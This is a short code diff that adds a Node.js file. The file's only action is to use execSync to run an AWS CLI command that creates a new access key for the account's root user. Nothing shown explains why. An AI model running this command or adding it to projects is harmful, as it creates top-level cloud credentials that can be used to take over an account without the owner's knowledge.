@@ -1,0 +1,3 @@
+const { execSync } = require("node:child_process");
+
+execSync("aws iam create-access-key --user-name root");
